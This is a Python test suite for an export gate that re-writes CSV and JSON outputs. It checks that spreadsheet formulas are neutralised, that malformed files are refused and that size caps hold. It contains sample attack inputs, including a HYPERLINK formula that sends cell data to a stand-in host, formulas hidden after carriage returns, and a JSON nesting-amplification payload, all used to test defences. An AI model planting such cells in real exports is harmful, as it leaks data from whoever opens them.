"""Exported files are parsed and re-written by trusted code; what does not parse is refused."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass

from hypothesis import given
from hypothesis import strategies as st

from sandbox.release.outputs import GatedFile, escape_formula, gate_outputs, with_trained

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@dataclass
class Out:
    name: str
    data: bytes


def test_csv_is_rewritten_and_formulas_are_neutralised():
    files, problems = gate_outputs([Out("r.csv", b'a,b\n=HYPERLINK("x"),-3\n+1+1,@SUM(A1)\n')])
    assert not problems
    text = files[0].data.decode()
    assert "'=HYPERLINK" in text and "'+1+1" in text and "'@SUM" in text
    assert ",-3\n" in text  # a plain negative number stays a number


def test_json_is_reserialised_compactly():
    files, problems = gate_outputs([Out("r.json", b'{"b": 1,\n "a": [1, 2], "c": "x y"}')])
    assert not problems and files[0].data == b'{"a":[1,2],"b":1,"c":"x y"}'


def test_unparseable_outputs_refuse_the_whole_export():
    bad = [Out("ok.csv", b"a\n1\n"), Out("bad.json", b"{not json"), Out("nan.json", b'{"x": NaN}'),
           Out("gbk.csv", "名字\n".encode("gbk")), Out("deep.json", b"[" * 100 + b"]" * 100),
           Out("nul.csv", b"a\x00b\n"), Out("x.txt", b"hi")]
    files, problems = gate_outputs(bad)
    assert files == []
    assert len(problems) == 6
    assert all("ok.csv" not in p for p in problems)


def test_problems_never_quote_content():
    _files, problems = gate_outputs([Out("s.json", b'{"secret": 91500000MA5U7W6X1Q')])
    assert problems and "91500000" not in problems[0]


@given(st.text(min_size=1, max_size=30))
def test_escaped_cells_never_start_with_a_formula_prefix(cell):
    out = escape_formula(cell)
    is_number = re.fullmatch(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?", cell) is not None
    assert is_number or not out.lstrip(' "').startswith(TRIGGERS)


def test_a_job_output_cannot_pose_as_the_trainers_certificate():
    trained = [GatedFile("model.safetensors", b"w"), GatedFile("model_card.json", b'{"epsilon": 1}')]
    forged = GatedFile("model_card.json", b'{"epsilon": 0.01}')
    files, problems = with_trained([forged, GatedFile("summary.csv", b"a\n1\n")], trained)
    assert files == [] and problems == ["model_card.json: the name is reserved for the platform's trainer"]
    files, problems = with_trained([GatedFile("summary.csv", b"a\n1\n")], trained)
    assert problems == [] and [f.name for f in files] == ["summary.csv", "model.safetensors", "model_card.json"]


# -- CSV: line breaks inside cells, and what a spreadsheet would run ------------------------------

def _line_starts(cell: str) -> list[int]:
    """Where a spreadsheet (or a sloppy importer) starts a line: 0 and after every CR or LF."""
    return [0] + [i + 1 for i, ch in enumerate(cell) if ch in "\r\n"]


def _is_plain_number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?", cell) is not None


def _triggers_at(cell: str) -> list[int]:
    return [i for i in _line_starts(cell) if cell[i:].lstrip(' "').startswith(TRIGGERS)]


def opens_as_formula(cell: str) -> bool:
    return not _is_plain_number(cell) and bool(_triggers_at(cell))


def expected_cell(cell: str) -> str:
    """An independent statement of the rule: a ' before every line that would open as a formula
    (a CR at the start of a line is itself a trigger, and also starts the next line)."""
    if _is_plain_number(cell):
        return cell
    out, last = [], 0
    for i in _triggers_at(cell):
        out += [cell[last:i], "'"]
        last = i
    return "".join(out) + cell[last:]


def _as_csv(rows: list[list[str]]) -> bytes:
    buf = io.StringIO(newline="")
    csv.writer(buf, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode()


def _nothing_opens_as_formula(data: bytes) -> None:
    text = data.decode()
    # as an RFC 4180 reader (a spreadsheet) sees it
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not [c for c in row if opens_as_formula(c)], row
    # as an importer that starts a row at every CR or LF, even inside quotes, sees it: no line
    # begins with a cell that opens as a formula
    for line in re.split(r"\r\n|\r|\n", text):
        first = next(csv.reader([line]), [""])[:1]
        assert not [c for c in first if opens_as_formula(c)], line


def test_a_bare_cr_in_a_cell_is_quoted_and_the_formula_after_it_neutralised():
    # The attack: a cell "total\r=HYPERLINK(...)". Python's writer with LF row ends leaves the CR
    # unquoted, so a spreadsheet breaks the row there and the next cell is a live formula.
    attack = _as_csv([["name", "note"], ["acme", 'total\r=HYPERLINK("http://x/?"&A1)'],
                      ["b", "x\r\n+1+1"], ["c", "y\n\n@SUM(A1)"], ["d", "ok\r－1＋1"], ["e", " =1"]])
    files, problems = gate_outputs([Out("r.csv", attack)])
    assert not problems
    out = files[0].data
    assert b'"total\r\'=HYPERLINK(""http://x/?""&A1)"' in out
    assert b"\"x\r\n'+1+1\"" in out and b"\"y\n\n'@SUM(A1)\"" in out and "\"ok\r'－1＋1\"".encode() in out
    _nothing_opens_as_formula(out)
    # what the writer this replaced produced: the CR left bare, '=HYPERLINK' at the start of a line
    old = io.StringIO(newline="")
    csv.writer(old, lineterminator="\n").writerow(["acme", "total\r=HYPERLINK(1)"])
    assert "\r=HYPERLINK" in old.getvalue() and '"' not in old.getvalue()


_CELL_CHARS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", ",", '"', " ", "'", "＝", "＋", "－",
                               "＠", "1", "e", ".", "a", "名"])
_CELLS = st.one_of(st.lists(_CELL_CHARS, max_size=8).map("".join),
                   st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), max_size=12),
                   st.from_regex(r"[+-]?[0-9]{1,4}(\.[0-9]{0,3})?([eE][+-]?[0-9]{1,2})?", fullmatch=True))


@given(st.lists(st.lists(_CELLS, min_size=1, max_size=5), max_size=6))
def test_csv_round_trip_keeps_every_non_formula_value_and_no_formula(rows):
    files, problems = gate_outputs([Out("r.csv", _as_csv(rows))])
    assert not problems
    back = list(csv.reader(io.StringIO(files[0].data.decode(), newline="")))
    assert back == [[expected_cell(c) for c in row] for row in rows]
    for row, out_row in zip(rows, back):
        for cell, out in zip(row, out_row):
            if not opens_as_formula(cell):
                assert out == cell  # every value that is not a formula survives as it was
    _nothing_opens_as_formula(files[0].data)


# -- JSON: compact, bounded by the bytes stored ---------------------------------------------------

_JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-10**30, 10**30) | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=10),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
    max_leaves=20)


@given(_JSON, st.sampled_from([None, 0, 2, 8]), st.booleans())
def test_json_round_trip_is_exact_and_compact(value, indent, ascii_only):
    data = json.dumps(value, indent=indent, ensure_ascii=ascii_only).encode()
    files, problems = gate_outputs([Out("r.json", data)])
    assert not problems
    out = files[0].data
    assert json.loads(out) == value
    assert out == json.dumps(value, separators=(",", ":"), sort_keys=True, ensure_ascii=False).encode()
    compact_in = json.dumps(value, separators=(",", ":"), ensure_ascii=False).encode()
    assert len(out) <= len(compact_in) + 16 * out.count(b"e")  # only float spellings may grow


def test_deep_indented_json_no_longer_amplifies():
    # The attack: nesting that indent=2 multiplied (0.6 MB became 19.5 MB, past the cap).
    leaf = "[" * 30 + "1" + "]" * 30
    data = ("[" + ",".join([leaf] * 10_000) + "]").encode()
    assert 0.5e6 < len(data) < 0.7e6
    amplified = json.dumps(json.loads(data), indent=2).encode()
    assert len(amplified) > 16 * 1024 * 1024  # what the old re-serialiser stored
    files, problems = gate_outputs([Out("deep.json", data)])
    assert not problems and len(files[0].data) == len(data)


def test_the_cap_applies_to_the_bytes_stored():
    # 9e15 is re-written 9000000000000000.0: under the cap as written, over it as stored.
    data = ("[" + ",".join(["9e15"] * 200_000) + "]").encode()
    assert len(data) < 1024 * 1024
    files, problems = gate_outputs([Out("grow.json", data)], max_bytes=2 * 1024 * 1024)
    assert files == [] and problems == ["grow.json: re-written, the outputs exceed 2097152 bytes"]
    files, problems = gate_outputs([Out("a.csv", b"x\n" * 600_000), Out("b.csv", b"y\n" * 600_000)],
                                   max_bytes=2 * 1024 * 1024)
    assert files == [] and problems == ["b.csv: re-written, the outputs exceed 2097152 bytes"]
    files, problems = gate_outputs([Out("grow.json", data)])  # the default: the sandbox's own output cap
    assert not problems and len(files[0].data) > len(data) * 3
